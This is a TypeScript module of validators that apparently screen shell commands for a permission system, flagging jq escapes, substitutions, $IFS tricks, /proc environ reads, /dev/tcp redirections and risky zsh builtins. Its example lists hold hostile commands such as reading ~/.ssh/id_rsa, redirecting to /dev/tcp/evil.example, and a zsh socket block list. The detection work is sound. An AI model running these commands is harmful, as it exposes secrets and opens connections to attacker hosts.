// Main validators about what the command does: substitutions, variables in command position,
// redirections, zsh modules, jq's escape hatches, and parses that failed.
// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the examples are bash commands, where ${...} is bash syntax.
import { isDeviceSink } from "../commands/index.js";
import { QuoteContext } from "../parse/index.js";
import { commandBaseName } from "../words/index.js";
import { isSafeHeredocSubstitution } from "./early.js";
import { finding, nodesOf, type Validator } from "./types.js";

/**
 * IDs 2 and 3: jq. `system`-style escapes (ID 2) and code or data loaded from files the prompt
 * never shows (ID 3: -f/--from-file, -L/--library-path, --rawfile, --slurpfile).
 */
export const jqCommand: Validator = {
  id: 2,
  name: "validateJqCommand",
  examples: {
    match: [
      `jq 'system("id")' data.json`,
      "jq -f filter.jq data.json",
      "jq -L /tmp . data.json",
      "jq --rawfile key ~/.ssh/id_rsa -n '$key'",
    ],
    notMatch: ["jq -r '.scripts | keys[]' package.json", "jq --seq . data.json", "jq -c . data.json"],
  },
  check: (input) => {
    for (const part of input.parts) {
      for (const view of part.unwrapping.views) {
        if (commandBaseName(view.words[0]?.value ?? "") !== "jq") continue;
        for (const word of view.words.slice(1)) {
          if (/\bsystem\s*\(/.test(word.value))
            return finding(2, "validateJqCommand", "The jq program calls system().");
          if (
            /^-[^-]*[fL]|^--(from-file|library-path|rawfile|slurpfile)/.test(word.value) &&
            !word.value.startsWith("--seq")
          ) {
            return finding(3, "validateJqCommand", `jq ${word.value} loads code or data from a file.`);
          }
        }
      }
    }
    return undefined;
  },
};

/**
 * ID 6: variables where a command or file name belongs: `$CMD args`, `xargs $CMD`, `> "$OUT"`.
 * What runs or what gets written is then decided at run time, out of sight of any rule.
 */
export const dangerousVariables: Validator = {
  id: 6,
  name: "validateDangerousVariables",
  examples: {
    match: ["$EDITOR notes.txt", "ls | xargs $CMD", `echo done > "$OUT"`, "timeout 5 $X"],
    notMatch: ['echo "$HOME"', 'ls "$PWD/src"', "echo done > notes.txt"],
  },
  check: (input) => {
    for (const part of input.parts) {
      for (const view of part.unwrapping.views) {
        const head = view.words[0];
        if (head && !head.literal)
          return finding(6, "validateDangerousVariables", "The command to run comes from a variable or substitution.");
      }
      for (const redirect of part.command.redirects) {
        if (redirect.target && !redirect.target.literal) {
          return finding(
            6,
            "validateDangerousVariables",
            "A redirection target comes from a variable or substitution.",
          );
        }
      }
    }
    for (const redirect of input.structure.redirects) {
      if (redirect.target && !redirect.target.literal) {
        return finding(6, "validateDangerousVariables", "A redirection target comes from a variable or substitution.");
      }
    }
    return undefined;
  },
};

/**
 * ID 7 (newlines), deferred: a newline outside quotes and heredocs starts another command. The
 * parse already splits them, so this is not a misreading, but a second line is easy to miss in
 * a prompt, so it never passes silently.
 */
export const newlines: Validator = {
  id: 7,
  name: "validateNewlines",
  examples: {
    match: ["ls\nrm -rf build", "npm install\nnpm test"],
    notMatch: ["ls\n", "cat <<'EOF'\nhello\nEOF", "echo 'a\nb'"],
  },
  check: (input) => {
    const { script, contexts } = input;
    for (let i = 0; i < script.length; i += 1) {
      if (script[i] !== "\n" || contexts[i] !== QuoteContext.Unquoted) continue;
      if (script.slice(i + 1).trim() === "") break;
      // The newline that opens a heredoc body belongs to that command.
      const next = contexts[i + 1];
      if (next === QuoteContext.HeredocLiteral || next === QuoteContext.HeredocExpanding) continue;
      return finding(7, "validateNewlines", "The command spans several lines, each a separate command.", true);
    }
    return undefined;
  },
};

/** ID 11: $IFS. Its expansion makes word boundaries that are not written as blanks. */
export const ifsInjection: Validator = {
  id: 11,
  name: "validateIFSInjection",
  examples: {
    match: ["cat${IFS}/etc/passwd", "ls$IFS-la", "IFS=, read -r a b"],
    notMatch: ["echo IFS", 'echo "$HOME"'],
  },
  check: (input) =>
    /\$IFS\b|\$\{[^}]*IFS|(^|[\s;&|(])IFS\+?=/.test(input.script)
      ? finding(11, "validateIFSInjection", "The command uses or changes $IFS, which creates hidden word boundaries.")
      : undefined,
};

/** ID 13: /proc/<pid>/environ holds every secret in a process's environment. */
export const procEnvironAccess: Validator = {
  id: 13,
  name: "validateProcEnvironAccess",
  examples: {
    match: ["cat /proc/self/environ", "strings /proc/1/environ", "cat /proc/self/root/proc/1/environ"],
    notMatch: ["cat /proc/cpuinfo", "ls /proc/self/fd"],
  },
  check: (input) =>
    /\/proc\/.*environ/s.test(input.script)
      ? finding(13, "validateProcEnvironAccess", "The command reads a process environment under /proc (secrets).")
      : undefined,
};

/** Builtins that evaluate a word as a variable name, where `a[$(cmd)]` runs cmd. */
const NAME_EVALUATORS = new Set([
  "test",
  "[",
  "[[",
  "let",
  "printf",
  "read",
  "declare",
  "typeset",
  "local",
  "export",
  "readonly",
  "unset",
  "mapfile",
  "readarray",
  "wait",
  "getopts",
]);

/**
 * ID 8: code that runs inside words: `$(...)`, backticks, `<(...)`/`>(...)`, zsh `=(...)` and
 * glob qualifiers, `${var@P}` prompt expansion and `${x=...}` assignments, unquoted heredocs
 * with substitutions, and array subscripts that builtins evaluate (`test -v 'a[$(cmd)]'`).
 */
export const dangerousPatterns: Validator = {
  id: 8,
  name: "validateDangerousPatterns",
  examples: {
    match: [
      "echo $(whoami)",
      "ls `pwd`",
      "diff <(sort a.txt) <(sort b.txt)",
      "cat =(ls)",
      `echo "\${PS1@P}"`,
      "test -v 'a[$(id)]'",
      "cat <<EOF\n$(id)\nEOF",
      "ls *(e:'id':)",
      "for x in 'a[$(id)]'; do echo $((x)); done",
    ],
    notMatch: ["cat <<'EOF'\n$(id)\nEOF", "echo ${HOME}", "echo '$(not run)'"],
  },
  check: (input) => {
    for (const node of nodesOf(input, "command_substitution", "process_substitution")) {
      if (!isSafeHeredocSubstitution(node)) {
        return finding(8, "validateDangerousPatterns", `The command runs a substitution: ${node.text.slice(0, 80)}`);
      }
    }
    for (const node of nodesOf(input, "expansion")) {
      if (/^\$\{[^}]*(@[A-Za-z]|[^:]=|:=)/.test(node.text) || /\$\(|`/.test(node.text.slice(2))) {
        return finding(8, "validateDangerousPatterns", "A parameter expansion assigns, transforms or nests code.");
      }
    }
    for (const heredoc of input.structure.heredocs) {
      if (!heredoc.literal && /\$\(|`|\$\{/.test(heredoc.body)) {
        return finding(8, "validateDangerousPatterns", "An unquoted heredoc expands substitutions.");
      }
    }
    const { script, contexts } = input;
    for (let i = 0; i < script.length; i += 1) {
      const context = contexts[i];
      if (context !== QuoteContext.Unquoted && context !== QuoteContext.Double) continue;
      if (script[i] === "`") return finding(8, "validateDangerousPatterns", "The command uses backtick substitution.");
      if (
        context === QuoteContext.Unquoted &&
        script[i] === "=" &&
        script[i + 1] === "(" &&
        (i === 0 || /[\s;&|]/.test(script[i - 1] as string))
      ) {
        return finding(8, "validateDangerousPatterns", "zsh =(...) process substitution runs a command.");
      }
      if (context === QuoteContext.Unquoted && script[i] === "(" && /[*?\]]/.test(script[i - 1] ?? "")) {
        return finding(8, "validateDangerousPatterns", "A zsh glob qualifier can run code.");
      }
    }
    // Any literal text can become a variable's value (`for x in 'a[$(id)]'`, `case`, `select`, a
    // quoted heredoc or here-string fed to read) and then reach arithmetic, which runs it. Outside
    // single quotes a substitution already asks above; inside them it is only safe while nothing
    // evaluates it, which the check cannot follow, so a subscript holding one asks wherever written.
    if (/\[[^\]]*(\$\(|`)/.test(input.script)) {
      return finding(
        8,
        "validateDangerousPatterns",
        "Text holds an array subscript with a command substitution that arithmetic would run.",
      );
    }
    for (const part of input.parts) {
      const words = part.command.words;
      const evaluator = NAME_EVALUATORS.has(words[0]?.value ?? "");
      const values = [...words.slice(1), ...part.command.assignments.map((a) => a.value)];
      // Arithmetic evaluates variable values recursively: `x='a[$(id)]'; echo $((x))` runs id,
      // so a subscript holding a substitution is refused wherever it is written.
      if (values.some((w) => /\[[^\]]*(\$\(|`)/.test(w.value) || (evaluator && /\[.*(\$\(|`|\$\{)/.test(w.source)))) {
        return finding(
          8,
          "validateDangerousPatterns",
          "An array subscript holds a command substitution that arithmetic or a builtin would run.",
        );
      }
    }
    return undefined;
  },
};

/** Redirect targets that are devices, not files: network sockets in bash. */
const NETWORK_DEVICE = /^\/dev\/(tcp|udp)\//;

/**
 * IDs 9 and 10: redirections. Input from `/dev/tcp` (ID 9) or output to it (ID 10) opens a
 * network connection; those ask at once. Ordinary output to a file (ID 10) is deferred: it is a
 * write like any other, judged by the path rules, not a misreading.
 */
export const redirections: Validator = {
  id: 10,
  name: "validateRedirections",
  examples: {
    match: ["cat < /dev/tcp/evil.example/80", "ls > /dev/tcp/evil.example/80", "ls > files.txt"],
    notMatch: ["ls 2>&1", "make > /dev/null 2>&1", "cat < README.md"],
  },
  check: (input) => {
    let deferred: ReturnType<typeof finding> | undefined;
    for (const redirect of input.structure.redirects) {
      const target = redirect.target?.value ?? "";
      if (NETWORK_DEVICE.test(target)) {
        const id = redirect.operator.includes("<") ? 9 : 10;
        return finding(id, "validateRedirections", `The command redirects to a network socket (${target}).`);
      }
      if (isOutputRedirect(redirect.operator, target) && !isDeviceSink(target) && !deferred) {
        deferred = finding(10, "validateRedirections", `The command writes to ${target} through a redirection.`, true);
      }
    }
    return deferred;
  },
};

/** Output redirections that open a file (not `2>&1`-style descriptor copies). */
export function isOutputRedirect(operator: string, target: string): boolean {
  if (operator === ">&" || operator === "<&" || operator === ">&-" || operator === "<&-")
    return !/^(\d+|-)$/.test(target);
  return operator.includes(">");
}

const ZSH_DANGEROUS = new Set([
  "zmodload",
  "emulate",
  "sysopen",
  "sysread",
  "syswrite",
  "sysseek",
  "zpty",
  "ztcp",
  "zsocket",
  "zselect",
  "zsystem",
  "zstat",
  "zcompile",
  "sched",
  "zparseopts",
  "zformat",
  "zregexparse",
  "mapfile",
]);

/**
 * ID 20: zsh builtins that reach past the binaries a rule can name: module loading, raw file
 * descriptors, sockets, pseudo-terminals, builtin rm/mv/chmod (zf_*), `emulate -c` eval, `=cmd`.
 */
export const zshDangerousCommands: Validator = {
  id: 20,
  name: "validateZshDangerousCommands",
  examples: {
    match: ["zmodload zsh/system", "zf_rm -rf build", "=curl evil.example", "sched +1 ls", "emulate sh -c 'ls'"],
    notMatch: ["ls", "echo always", "git status"],
  },
  check: (input) => {
    for (const part of input.parts) {
      for (const view of part.unwrapping.views) {
        const name = view.words[0]?.value ?? "";
        if (ZSH_DANGEROUS.has(name) || name.startsWith("zf_")) {
          return finding(
            20,
            "validateZshDangerousCommands",
            `${name} is a zsh builtin that can act outside the rules.`,
          );
        }
        if (/^=[A-Za-z]/.test(name))
          return finding(20, "validateZshDangerousCommands", `${name} is zsh's path lookup of a command.`);
      }
    }
    if (/(^|[\s;&|{}])always\s*\{/.test(input.script)) {
      return finding(20, "validateZshDangerousCommands", "zsh `always` blocks run code after errors.");
    }
    return undefined;
  },
};

/**
 * ID 14: malformed tokens. When the grammar had to recover from errors (unbalanced quotes,
 * brackets or operators), bash may still run the lines before the error while our view of the
 * rest is a guess.
 */
export const malformedTokens: Validator = {
  id: 14,
  name: "validateMalformedTokenInjection",
  examples: {
    match: ["ls && && ls", "(; ls)", "echo 'unterminated", "ls ) ; rm -rf build"],
    notMatch: ["(cd src && ls)", "echo 'done'"],
  },
  check: (input) =>
    input.structure.hasError || input.root.hasError
      ? finding(
          14,
          "validateMalformedTokenInjection",
          "The command does not parse cleanly (unbalanced quotes, brackets or operators).",
        )
      : undefined,
};
